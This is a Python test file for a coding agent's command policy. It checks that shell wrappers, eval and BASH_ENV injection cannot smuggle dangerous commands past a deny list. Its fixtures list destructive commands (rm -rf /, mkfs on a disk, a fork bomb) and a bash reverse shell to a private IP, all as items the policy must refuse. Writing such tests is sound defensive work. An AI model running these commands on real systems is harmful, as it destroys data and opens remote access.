"""In the command policy: shells and eval: `bash -c`, `sh -c`, `source`, an injected BASH_ENV.

Their facts: konstruct_tui/commands/programs/shells.py."""

from __future__ import annotations

from policy_checks import (
    case_test,
    a_program_from_the_project_is_never_a_look_around,
    a_program_from_the_project_is_never_admitted_by_a_preset,
    everyday_commands_are_not_refused_and_ask_for_the_commands_grant,
    hard_deny_list_refuses_every_spelling,
    other_refusals_name_their_rule,
    shells_and_eval_cannot_smuggle_compound_commands,
)


DENIED = [
    # shells and interpreters smuggling denied commands
    'bash -c "rm -rf /"',
    "sh -c 'rm -rf /'",
    "zsh -c 'rm -rf ~'",
    "sh -c 'ls; rm -rf /'",
    "bash -lc 'mkfs.ext4 /dev/sda'",
    "eval 'rm -rf /'",
    "sh -c \"rm -rf /$X\"",
    "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
    "bash -c ':(){ :|:& };:'",
    "bash -c 'eval rm -rf /'",
    "systemd-run rm -rf /",
]


test_hard_deny_list_refuses_every_spelling = case_test(hard_deny_list_refuses_every_spelling, "command", DENIED)


SHELL_WRAPPED = [
    "sh -c 'ls; rm -rf build'",
    "bash -c 'ls && ls'",
    "bash -c 'cat x | sh'",
    "eval 'ls; ls'",
    "eval ls",
    "bash -c 'echo $HOME'",
    "sh -c 'rm -rf $DIR/'",
]


test_shells_and_eval_cannot_smuggle_compound_commands = case_test(
    shells_and_eval_cannot_smuggle_compound_commands, "command", SHELL_WRAPPED)


OTHER_REFUSALS = [
    ("BASH_ENV=/tmp/x bash script.sh", "env_injection"),
]


test_other_refusals_name_their_rule = case_test(other_refusals_name_their_rule, ("command", "rule"), OTHER_REFUSALS)


ASKED = [
    "bash scripts/test.sh",
    "sh ./configure",
    'bash -c "ls"',
    "source venv/bin/activate",
]


test_everyday_commands_are_not_refused_and_ask_for_the_commands_grant = case_test(
    everyday_commands_are_not_refused_and_ask_for_the_commands_grant, "command", ASKED)


# Held, pinned: a file the agent wrote (or named like a look-around program) is never a look around,
# nor admitted by a preset; it runs only under the commands grant, in the sandbox.
test_a_program_from_the_project_is_never_a_look_around = case_test(
    a_program_from_the_project_is_never_a_look_around, "command", [
    "sh x.sh",
    "bash ./x.sh",
])


test_a_program_from_the_project_is_never_admitted_by_a_preset = case_test(
    a_program_from_the_project_is_never_admitted_by_a_preset, "command", [
    "sh x.sh",
])
